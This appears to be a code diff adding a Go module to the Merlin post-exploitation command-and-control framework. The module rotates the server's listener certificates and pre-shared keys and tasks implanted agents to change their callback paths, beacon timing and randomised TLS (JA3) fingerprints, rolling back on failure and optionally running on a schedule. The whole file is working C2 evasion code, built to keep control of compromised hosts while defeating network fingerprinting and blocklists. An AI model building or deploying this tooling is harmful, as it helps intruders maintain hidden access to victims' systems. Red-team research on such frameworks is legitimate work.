@@ -0,0 +1,517 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agents
+
+import (
+	// Standard
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"errors"
+	"fmt"
+	"math/big"
+	"net/url"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// 3rd Party
+	"github.com/satori/go.uuid"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/core"
+	"github.com/Ne0nd0g/merlin/pkg/logging"
+	"github.com/Ne0nd0g/merlin/pkg/util"
+)
+
+// Listener is a running HTTP listener whose TLS certificate and pre-shared keys can be replaced by a rotation
+type Listener interface {
+	Keys
+	TLSCertificate() tls.Certificate
+	SetCertificate(cert tls.Certificate) error
+	AnyURI() bool // The listener accepts agent messages on any URI, so agents' callback paths can be changed
+}
+
+// Rotation is the outcome of rotating the listeners' and agents' indicators together
+type Rotation struct {
+	Started    time.Time
+	Finished   time.Time
+	Listeners  []uuid.UUID // The listeners that were rotated
+	Agents     []uuid.UUID // The agents that confirmed every change
+	Skipped    []uuid.UUID // HTTP agents that were not active, or can not be rotated, and kept their old settings
+	Pending    []uuid.UUID // Agents that did not confirm the changes before the timeout
+	Pin        string      // The public key pin of the new certificate; empty when no certificate was replaced
+	PSK        string      // The new pre-shared key
+	RolledBack bool        // The rotation failed part way and every change was reversed
+}
+
+// rotation holds the listeners that can be rotated and the rotation schedule
+var rotation = struct {
+	sync.Mutex
+	listeners map[uuid.UUID]Listener
+	running   bool
+	interval  time.Duration
+	timeout   time.Duration
+	stop      chan struct{}
+	last      *Rotation
+}{listeners: make(map[uuid.UUID]Listener)}
+
+// settingsMutex guards the protocol, sleep, skew, callback URLs, pins, and Client Hello agents report, which a
+// rotation reads while UpdateInfo changes them as the agents check in
+var settingsMutex sync.Mutex
+
+// rotationPoll is how often a rotation checks whether the agents confirmed their changes
+var rotationPoll = time.Second
+
+// rotationCiphers are the TLS 1.2 cipher suites a rotation picks the agents' Client Hello from; the first three work
+// with the RSA certificates Merlin listeners use and at least one of them is always offered
+var rotationCiphers = []string{"c02f", "c030", "cca8", "c02b", "c02c", "cca9"}
+
+// rotationCurves are the elliptic curves a rotation picks the agents' Client Hello from
+var rotationCurves = []string{"001d", "0017", "0018"}
+
+// agentRotation is the changes one agent is asked to make and the settings to restore if the rotation fails
+type agentRotation struct {
+	id        uuid.UUID
+	pinned    bool              // The agent pins its listeners' certificates
+	pins      []string          // The agent's pins before the rotation
+	sleep     string            // The agent's sleep before the rotation
+	skew      int64             // The agent's skew before the rotation
+	ja3       string            // The agent's Client Hello before the rotation
+	newPins   []string          // The pins the agent accepts while the rotation is in progress
+	newSleep  string            // The agent's new sleep
+	newSkew   int64             // The agent's new skew
+	newJA3    string            // The agent's new Client Hello
+	callbacks map[string]string // The agent's callback URLs mapped to the URLs that replace them
+}
+
+// RegisterListener adds a running listener to the listeners a rotation replaces the certificate and PSK of, and to
+// the listeners whose PSK can be rotated on its own
+func RegisterListener(id uuid.UUID, l Listener) {
+	rotation.Lock()
+	rotation.listeners[id] = l
+	rotation.Unlock()
+	RegisterKeys(id, l)
+}
+
+// Rotate replaces the certificate and PSK of every registered listener along with the callback URIs, sleep, skew, and
+// TLS Client Hello of every active HTTP agent as one operation. The listeners accept the old and new PSK while the
+// agents are tasked with their changes; once every agent confirms them before the timeout, the listeners present the new
+// certificate, drop the old PSK, and the agents drop their old callback URLs and pins. If any step fails, or an agent
+// does not confirm its changes in time, the listeners are restored and every agent is tasked with its old settings.
+func Rotate(timeout time.Duration) (Rotation, error) {
+	r := Rotation{Started: time.Now().UTC()}
+	rotation.Lock()
+	if rotation.running {
+		rotation.Unlock()
+		return r, errors.New("a rotation is already in progress")
+	}
+	rotation.running = true
+	listeners := make(map[uuid.UUID]Listener)
+	for id, l := range rotation.listeners {
+		listeners[id] = l
+	}
+	rotation.Unlock()
+	defer func() {
+		rotation.Lock()
+		rotation.running = false
+		rotation.last = &r
+		rotation.Unlock()
+	}()
+
+	if len(listeners) == 0 {
+		return r, errors.New("there are no HTTP listeners to rotate")
+	}
+
+	// Prepare the new certificate and PSK; a listener that is given its own certificate back without an error can
+	// have its certificate replaced
+	cert, err := util.GenerateTLSCert(nil, nil, nil, nil, nil, nil, true)
+	if err != nil {
+		return r, fmt.Errorf("there was an error generating a certificate:\r\n%s", err.Error())
+	}
+	leaf, err := x509.ParseCertificate(cert.Certificate[0])
+	if err != nil {
+		return r, fmt.Errorf("there was an error parsing the generated certificate:\r\n%s", err.Error())
+	}
+	oldPSKs := make(map[uuid.UUID][]string)
+	oldCerts := make(map[uuid.UUID]tls.Certificate)
+	var oldPins []string
+	anyURI := true
+	for id, l := range listeners {
+		r.Listeners = append(r.Listeners, id)
+		oldPSKs[id] = l.PSKs()
+		anyURI = anyURI && l.AnyURI()
+		current := l.TLSCertificate()
+		if l.SetCertificate(current) != nil {
+			continue
+		}
+		oldCerts[id] = current
+		if len(current.Certificate) > 0 {
+			if c, errParse := x509.ParseCertificate(current.Certificate[0]); errParse == nil {
+				oldPins = append(oldPins, util.PublicKeyPin(c))
+			}
+		}
+	}
+	if len(oldCerts) > 0 {
+		r.Pin = util.PublicKeyPin(leaf)
+	}
+	r.PSK = core.RandStringBytesMaskImprSrc(30)
+
+	// Plan every active HTTP agent's changes
+	var plans []*agentRotation
+	settingsMutex.Lock()
+	for id, a := range Agents {
+		switch strings.ToLower(a.Proto) {
+		case "h2", "hq", "https":
+		default:
+			continue
+		}
+		// Agents that do not report their Client Hello were built before they could be rotated
+		if GetAgentStatus(id) != "Active" || a.JA3 == "" {
+			r.Skipped = append(r.Skipped, id)
+			continue
+		}
+		p, errPlan := planRotation(a, r.Pin, anyURI)
+		if errPlan != nil {
+			settingsMutex.Unlock()
+			return r, errPlan
+		}
+		plans = append(plans, p)
+	}
+	settingsMutex.Unlock()
+
+	// The listeners accept both PSKs until the rotation is committed or rolled back
+	for id, l := range listeners {
+		if err = l.SetPSKs(append([]string{r.PSK}, oldPSKs[id]...)); err != nil {
+			rollbackRotation(&r, listeners, oldPSKs, nil, nil)
+			return r, fmt.Errorf("there was an error adding the new PSK to listener %s:\r\n%s", id, err.Error())
+		}
+	}
+
+	// Task the agents with their changes, the PSK first so the rest confirm it was applied
+	for i, p := range plans {
+		jobs := [][]string{{"psk", "psk", r.PSK}}
+		if p.pinned && r.Pin != "" {
+			jobs = append(jobs, []string{"pins", "pins", strings.Join(p.newPins, ",")})
+		}
+		for _, u := range p.callbacks {
+			jobs = append(jobs, []string{"callbacks", "callbacks", "add " + u})
+		}
+		jobs = append(jobs, []string{"sleep", "sleep", p.newSleep}, []string{"skew", "skew", strconv.FormatInt(p.newSkew, 10)},
+			[]string{"ja3", "ja3", p.newJA3})
+		if err = rotationJobs(p.id, jobs); err != nil {
+			rollbackRotation(&r, listeners, oldPSKs, nil, plans[:i+1])
+			return r, err
+		}
+	}
+	logging.Server(fmt.Sprintf("Rotation started for %d listeners and %d agents", len(listeners), len(plans)))
+
+	// Wait for every agent to report its new settings
+	deadline := time.Now().Add(timeout)
+	for {
+		r.Agents, r.Pending = nil, nil
+		for _, p := range plans {
+			if rotationConfirmed(p) {
+				r.Agents = append(r.Agents, p.id)
+			} else {
+				r.Pending = append(r.Pending, p.id)
+			}
+		}
+		if len(r.Pending) == 0 || !time.Now().Before(deadline) {
+			break
+		}
+		time.Sleep(rotationPoll)
+	}
+	if len(r.Pending) > 0 {
+		rollbackRotation(&r, listeners, oldPSKs, nil, plans)
+		return r, fmt.Errorf("%d agents did not confirm the rotation within %s", len(r.Pending), timeout)
+	}
+
+	// Commit: present the new certificate, drop the old PSK, and remove the agents' old callback URLs and pins
+	replaced := make(map[uuid.UUID]tls.Certificate)
+	for id := range oldCerts {
+		if err = listeners[id].SetCertificate(*cert); err != nil {
+			rollbackRotation(&r, listeners, oldPSKs, replaced, plans)
+			return r, fmt.Errorf("there was an error replacing the certificate of listener %s:\r\n%s", id, err.Error())
+		}
+		replaced[id] = oldCerts[id]
+	}
+	for id, l := range listeners {
+		if err = l.SetPSKs([]string{r.PSK}); err != nil {
+			rollbackRotation(&r, listeners, oldPSKs, replaced, plans)
+			return r, fmt.Errorf("there was an error removing the old PSK from listener %s:\r\n%s", id, err.Error())
+		}
+		clearGrace(id)
+	}
+	for _, p := range plans {
+		var jobs [][]string
+		for old := range p.callbacks {
+			jobs = append(jobs, []string{"callbacks", "callbacks", "remove " + old})
+		}
+		if p.pinned && r.Pin != "" {
+			jobs = append(jobs, []string{"pins", "pins", strings.Join(removePins(p.newPins, oldPins), ",")})
+		}
+		if err = rotationJobs(p.id, jobs); err != nil {
+			message("warn", err.Error())
+		}
+	}
+	r.Finished = time.Now().UTC()
+	logging.Server(fmt.Sprintf("Rotation finished for %d listeners and %d agents", len(listeners), len(plans)))
+	return r, nil
+}
+
+// planRotation picks an agent's new sleep, skew, Client Hello, and callback URLs; settingsMutex must be held
+func planRotation(a *agent, pin string, anyURI bool) (*agentRotation, error) {
+	p := &agentRotation{id: a.ID, pinned: len(a.Pins) > 0, pins: a.Pins, sleep: a.WaitTime, skew: a.Skew, ja3: a.JA3,
+		callbacks: make(map[string]string)}
+	sleep, err := time.ParseDuration(a.WaitTime)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error parsing agent %s's sleep %s:\r\n%s", a.ID, a.WaitTime, err.Error())
+	}
+	// Vary the sleep and skew by up to 25 percent of their current values
+	p.newSleep = jitter(sleep, 4).Round(time.Second).String()
+	if p.newSleep == a.WaitTime || p.newSleep == "0s" {
+		p.newSleep = (sleep + time.Second).String()
+	}
+	p.newSkew = int64(jitter(time.Duration(a.Skew), 4))
+	if p.newSkew == a.Skew {
+		p.newSkew++
+	}
+	p.newJA3 = randomJA3()
+	if p.newJA3 == a.JA3 {
+		p.newJA3 = randomJA3()
+	}
+	if p.pinned && pin != "" {
+		p.newPins = append(removePins(a.Pins, []string{pin}), pin)
+	}
+	if anyURI {
+		for _, c := range a.Callbacks {
+			u, errURL := url.Parse(c)
+			if errURL != nil || u.Scheme == "" {
+				continue
+			}
+			u.Path = "/" + strings.ToLower(core.RandStringBytesMaskImprSrc(8+randomInt(8)))
+			p.callbacks[c] = u.String()
+		}
+	}
+	return p, nil
+}
+
+// rotationConfirmed returns true when the agent's last reported settings match the rotation's changes
+func rotationConfirmed(p *agentRotation) bool {
+	settingsMutex.Lock()
+	defer settingsMutex.Unlock()
+	a, ok := Agents[p.id]
+	if !ok {
+		return false
+	}
+	if a.WaitTime != p.newSleep || a.Skew != p.newSkew || a.JA3 != p.newJA3 {
+		return false
+	}
+	for _, u := range p.callbacks {
+		if !contains(a.Callbacks, u) {
+			return false
+		}
+	}
+	for _, pin := range p.newPins {
+		if !contains(a.Pins, pin) {
+			return false
+		}
+	}
+	return true
+}
+
+// rollbackRotation restores the listeners' PSKs and replaced certificates and tasks the agents with their old settings.
+// Jobs are sent in the order they were queued, so an agent that did not receive its changes yet reverts right after.
+func rollbackRotation(r *Rotation, listeners map[uuid.UUID]Listener, psks map[uuid.UUID][]string,
+	certs map[uuid.UUID]tls.Certificate, plans []*agentRotation) {
+	r.RolledBack = true
+	r.Finished = time.Now().UTC()
+	for id, cert := range certs {
+		if err := listeners[id].SetCertificate(cert); err != nil {
+			message("warn", fmt.Sprintf("there was an error restoring the certificate of listener %s:\r\n%s", id, err.Error()))
+		}
+	}
+	// Agents are only told to go back to the old PSK when every listener used the same one; otherwise the listeners
+	// keep accepting the new PSK because the server does not know which listener's PSK an agent had
+	psk := psks[r.Listeners[0]][0]
+	for _, keys := range psks {
+		if keys[0] != psk {
+			psk = ""
+		}
+	}
+	for id, l := range listeners {
+		keys := psks[id]
+		if psk == "" {
+			keys = append(append([]string{}, keys...), r.PSK)
+		}
+		if err := l.SetPSKs(keys); err != nil {
+			message("warn", fmt.Sprintf("there was an error restoring the PSK of listener %s:\r\n%s", id, err.Error()))
+		}
+	}
+	for _, p := range plans {
+		var jobs [][]string
+		for _, u := range p.callbacks {
+			jobs = append(jobs, []string{"callbacks", "callbacks", "remove " + u})
+		}
+		if p.pinned && r.Pin != "" {
+			jobs = append(jobs, []string{"pins", "pins", strings.Join(p.pins, ",")})
+		}
+		ja3 := p.ja3
+		if ja3 == "" {
+			ja3 = "default"
+		}
+		jobs = append(jobs, []string{"sleep", "sleep", p.sleep}, []string{"skew", "skew", strconv.FormatInt(p.skew, 10)},
+			[]string{"ja3", "ja3", ja3})
+		if psk != "" {
+			jobs = append(jobs, []string{"psk", "psk", psk})
+		}
+		if err := rotationJobs(p.id, jobs); err != nil {
+			message("warn", err.Error())
+		}
+	}
+	logging.Server(fmt.Sprintf("Rotation rolled back for %d listeners and %d agents", len(listeners), len(plans)))
+}
+
+// rotationJobs queues the jobs for an agent; each job is the job type followed by its arguments
+func rotationJobs(agentID uuid.UUID, jobs [][]string) error {
+	for _, j := range jobs {
+		if _, err := AddJob(agentID, j[0], j[1:]); err != nil {
+			return fmt.Errorf("there was an error tasking agent %s with its %s rotation:\r\n%s", agentID, j[0], err.Error())
+		}
+	}
+	return nil
+}
+
+// ScheduleRotation starts, replaces, or with an interval of zero stops, the scheduled rotation. The report function
+// receives the outcome of each rotation.
+func ScheduleRotation(interval time.Duration, timeout time.Duration, report func(Rotation, error)) {
+	rotation.Lock()
+	defer rotation.Unlock()
+
+	if rotation.stop != nil {
+		close(rotation.stop)
+		rotation.stop = nil
+	}
+	rotation.interval, rotation.timeout = interval, timeout
+	if interval <= 0 {
+		return
+	}
+
+	stop := make(chan struct{})
+	rotation.stop = stop
+	go func() {
+		ticker := time.NewTicker(interval)
+		defer ticker.Stop()
+		for {
+			select {
+			case <-stop:
+				return
+			case <-ticker.C:
+				report(Rotate(timeout))
+			}
+		}
+	}()
+}
+
+// ScheduledRotation returns the interval and timeout of the scheduled rotation or zero if there is not one
+func ScheduledRotation() (time.Duration, time.Duration) {
+	rotation.Lock()
+	defer rotation.Unlock()
+	return rotation.interval, rotation.timeout
+}
+
+// LastRotation returns the outcome of the most recent rotation
+func LastRotation() (Rotation, bool) {
+	rotation.Lock()
+	defer rotation.Unlock()
+	if rotation.last == nil {
+		return Rotation{}, false
+	}
+	return *rotation.last, true
+}
+
+// randomJA3 returns a Client Hello specification with a random selection and order of the rotation's cipher suites and
+// curves that always includes a cipher suite for RSA certificates
+func randomJA3() string {
+	ciphers := shuffle(rotationCiphers)
+	ciphers = ciphers[:2+randomInt(len(ciphers)-1)]
+	rsa := false
+	for _, c := range ciphers {
+		rsa = rsa || c == "c02f" || c == "c030" || c == "cca8"
+	}
+	if !rsa {
+		ciphers = append(ciphers, rotationCiphers[randomInt(3)])
+	}
+	curves := shuffle(rotationCurves)
+	curves = curves[:1+randomInt(len(curves))]
+	return strings.Join(ciphers, ",") + ";" + strings.Join(curves, ",")
+}
+
+// jitter returns the duration changed by a random amount up to one divisor-th of it in either direction
+func jitter(d time.Duration, divisor int64) time.Duration {
+	spread := int64(d) / divisor
+	if spread <= 0 {
+		return d
+	}
+	return d - time.Duration(spread) + time.Duration(randomInt(int(2*spread)+1))
+}
+
+// randomInt returns a random number in [0, n)
+func randomInt(n int) int {
+	if n <= 0 {
+		return 0
+	}
+	i, err := rand.Int(rand.Reader, big.NewInt(int64(n)))
+	if err != nil {
+		return 0
+	}
+	return int(i.Int64())
+}
+
+// shuffle returns a copy of the strings in a random order
+func shuffle(s []string) []string {
+	c := append([]string(nil), s...)
+	for i := len(c) - 1; i > 0; i-- {
+		j := randomInt(i + 1)
+		c[i], c[j] = c[j], c[i]
+	}
+	return c
+}
+
+// removePins returns the pins without the removed pins
+func removePins(pins []string, removed []string) []string {
+	var kept []string
+	for _, p := range pins {
+		if !contains(removed, p) {
+			kept = append(kept, p)
+		}
+	}
+	return kept
+}
+
+// contains returns true if the string is in the slice
+func contains(s []string, v string) bool {
+	for _, e := range s {
+		if e == v {
+			return true
+		}
+	}
+	return false
+}